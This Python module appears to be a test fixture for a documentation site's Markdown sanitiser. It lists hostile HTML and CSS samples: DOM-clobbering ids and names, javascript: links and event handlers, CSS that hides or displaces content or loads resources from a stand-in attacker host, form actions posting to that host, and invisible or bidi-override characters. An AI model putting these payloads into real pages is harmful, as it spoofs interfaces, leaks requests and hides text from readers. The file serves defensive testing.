"""Hostile Markdown that would be a part of the interface, leaves its place by its looks, or hides what it says."""

from html import escape

from hostile.payloads import EVIL, IMG, ON, RUN

#: Names and hooks of the parts that scripts look for.
TAKEN = {
    **{
        f"hook-{name}": f'<p data-{name}="x">字</p>'
        for name in ("find", "to", "credit", "of", "shows", "filter", "done", "command", "card")
    },
    **{
        f"class-{name}": f'<div class="{name}">字</div>'
        for name in (
            "bitext-card bitext-card-title",
            "bitext-bibtex",
            "bitext-copy",
            "bitext-hit",
            "bitext-side",
            "bitext-group",
            "bitext-note",
            "bitext-offer",
            "bitext-peek",
            "bitext-picture",
            "bitext-keys",
            "bitext-suggest",
            "bitext-suggest-close",
            "bitext-found-unit",
            "bitext-cell",
            "bitext-absent",
            "bitext-state",
            "bitext-quiet",
            "md-content__inner",
            "md-search-result__link",
            "md-code__button",
            "md-annotation__index",
            "md-container",
            "md-tabs",
            "md-source",
            "md-version",
            "md-consent",
            "md-progress",
            "md-typeset__scrollwrap md-skip",
        )
    },
    **{
        f"id-{name}": f"字。\n{{: #{name} }}"
        for name in (
            "__search_results",
            "__nav_1",
            "__nav_1_label",
            "__consent",
            "__toc_1",
            "__comments",
            "__version",
            "__source",
            "__md_scope",
            "bitext-card-vaswani2017",
            "bitext-ui",
            "bitext-results",
            "bitext-search",
            "bitext-suggest",
            "BITEXT-ui",
            "__SEARCH",
        )
    },
    **{
        f"name-{kind}": text
        for kind, text in {
            "picture": '<img src="x.png" name="getElementById" alt="">',
            "picture-upper": '<IMG SRC="x.png" NAME="querySelectorAll" alt="">',
            "frame": '<iframe name="trustedTypes"></iframe>',
            "button": '<button name="currentScript">字</button>',
            "link": '<a name="__md_get" id="__md_get">字</a>',
            "map": '<map name="__search"><area href="index.md" alt=""></map>',
            "details": '<details name="__drawer"><summary>字</summary></details>',
            "input": '<input type="radio" name="__palette">',
            "object": '<object name="cookie" data="x.svg"></object>',
            "paragraph": '<p name="documentElement">字</p>',
        }.items()
    },
    "form-owner": '<input type="checkbox" form="bitext-search-form">',
    "form-method": f'<button type="submit" formmethod="post" formaction="//{EVIL}/">字</button>',
    "form-novalidate": '<button type="submit" formtarget="_top">字</button>',
    "label-palette": '<label for="__palette_1">字</label>',
    "label-nav": '<label class="ok" for=__nav_2>字</label>',
    "label-case": '<label for="__Drawer">字</label>',
    "reference-details": '<p aria-details="bitext-card-x">字</p>',
    "reference-active": '<p aria-activedescendant="__search">字</p>',
    "toggle-reset": '<button type="reset" form="__search">字</button>',
    "popover-manual": '<p popover="manual" id="ok">字</p>',
    "popover-hide": '<button popovertarget="ok" popovertargetaction="hide">字</button>',
    "details-open": f"<details open ontoggle={ON}><summary>字</summary></details>",
    "hreflang": f'<a hreflang="zh" href="javascript:{RUN}">字</a>',
    "slot": '<span slot="x">字</span>',
    "shadow-closed": f'<div><template shadowrootmode="closed" shadowrootclonable>{IMG}</template></div>',
    "item-property": '<span itemprop="url" itemref="__config">字</span>',
}

#: Looks by which an element leaves the text or asks for something.
NEWER = {
    "reversed": "unicode-bidi: bidi-override; direction: rtl",
    "offset-path": "offset-path: path('M 0 0 L -900 -900'); offset-distance: 100%",
    "offset-url": f"offset-path: url(//{EVIL}/x.svg#a)",
    "mask-prefix": f"-webkit-mask-image: url(//{EVIL}/x.svg)",
    "mask-box": f"-webkit-mask-box-image: url(//{EVIL}/x.png)",
    "backdrop": "backdrop-filter: blur(99px)",
    "blend": "mix-blend-mode: difference",
    "blur": "filter: blur(900px)",
    "will-change": "will-change: transform; contain: layout",
    "all": "all: unset",
    "appearance": "appearance: auto",
    "anchor-name": "anchor-name: --x",
    "touch": "touch-action: none",
    "caret": "caret-color: transparent",
    "margin-block": "margin-block-start: -900px",
    "margin-inline": "margin-inline: -900px",
    "margin-min": "margin-left: min(-900px, 0px)",
    "margin-many": "margin: 0 0 0 -900px",
    "margin-screen": "margin-top: -100vh",
    "margin-cqw": "margin-left: -100cqw",
    "margin-rex": "margin-left: -80rex",
    "margin-sign": "margin-left: - 900px; margin-top: -900.5px",
    "margin-variable": "margin-left: var(--x, -900px)",
    "indent-calc": "text-indent: calc(-1 * 900px)",
    "letter": "letter-spacing: -900px",
    "word": "word-spacing: -900px",
    "line": "line-height: 900000",
    "padding": "padding: 9000px",
    "padding-screen": "padding-top: 900vh",
    "border-screen": "border: 100vw solid red",
    "border-spacing": "border-spacing: 9000px",
    "outline-offset": "outline: 2px solid; outline-offset: 900px",
    "shadow-spread": "box-shadow: 0 0 0 100vmax red",
    "shadow-inset": "box-shadow: inset 0 0 0 100vmax red",
    "shadow-calc": "box-shadow: 0 0 0 calc(9 * 99px) red",
    "image-outset": "border-image-source: linear-gradient(red, red); border-image-outset: 900px",
    "shape-path": f"shape-outside: image-set('//{EVIL}/x.png' 1x)",
    "element": "background: element(#__search)",
    "paint": f"background: paint(x), url( //{EVIL}/x )",
    "attribute": "background: attr(title type(<url>))",
    "list-image": f"list-style-image: url('//{EVIL}/x.png')",
    "content-image": f"content: image-set('//{EVIL}/x.png' 1x)",
    "quotes-image": f"quotes: url(//{EVIL}/x.png)",
    "text-emphasis": f"text-emphasis: url(//{EVIL}/x.png)",
    "font-source": f"font-family: x; src: url(//{EVIL}/x.woff)",
    "cursor-set": f"cursor: image-set('//{EVIL}/x.cur' 1x), auto",
    "newline": f"background:\nurl(\n//{EVIL}/x.png\n)",
    "escape-url": f"background: \\75\\72\\6c(//{EVIL}/x.png)",
    "escape-position": "position: \\66ixed",
    "escape-property": "p\\6fsition: fixed",
    "comment-property": "posi/**/tion: fixed; position:/**/fixed",
    "important": "position: fixed !important",
    "vendor": "position: -webkit-sticky",
    "case": "PoSiTiOn: FiXeD",
    "brace": "color: red; } * { display: none",
    "null": "position: f\0ixed; position: fixed",
    "at-rule": f"@import '//{EVIL}/x.css'",
    "nested": "&:hover { position: fixed }",
    "grid-area": "grid-area: x; position: absolute",
    "float-shape": f"float: left; shape-outside: url(//{EVIL}/x.png)",
    "view-name": "view-transition-name: x",
    "translate-3d": "translate: -900px 0 0",
    "rotate-axis": "rotate: y 90deg",
    "skew": "transform: skew(89deg)",
    "transform-style": "transform-style: preserve-3d",
    "perspective-own": "perspective: 1px",
    "zoom-percent": "zoom: 900%",
    "columns": "columns: 9000px",
    "minimum": "min-height: 90000px",
    "minimum-screen": "min-height: 900vh",
    "width-calc": "width: calc(100vw * 90)",
    "height-calc": "height: calc(100vh * 90)",
    "font-calc": "font-size: calc(1vw * 900)",
    "font-screen": "font-size: 900vw",
    "scroll-margin": "scroll-margin-top: -90000px",
}

#: Characters that hide or turn what is read.
SIGNS = {
    "isolate-first": "`a\u2068b\u2069`",
    "embedding": "字\u202b字\u202c",
    "word-joiner": "字\u2060字",
    "invisible-times": "字\u2062字",
    "filler": "字\u3164字",
    "half-filler": "字\uffa0字",
    "variation": "字\U000e0001字",
    "language-tag": "字\U000e007f字",
    "annotation": "字\ufff9字\ufffb",
    "line-separator-html": "<p title='\u202e'>字</p>",
    "mark-left": "字\u200e字",
    "mark-arabic": "字\u061c字",
    "joiner": "字\u200d字",
    "deprecated": "字\u206a字",
    "escape": "字\x1b[31m字",
    "bell": "字\x07字",
    "backspace": "字\x08字",
    "entity-override": "字&#x202e;abc",
}


def posing_vectors() -> dict[str, str]:
    """Return the bodies by name."""
    looks = {name: f'<p style="{escape(style)}">字</p>' for name, style in NEWER.items()}
    groups = {"taken": TAKEN, "newer": looks, "sign": SIGNS}
    return {
        f"{group}-{name}": body for group, found in groups.items() for name, body in found.items()
    }
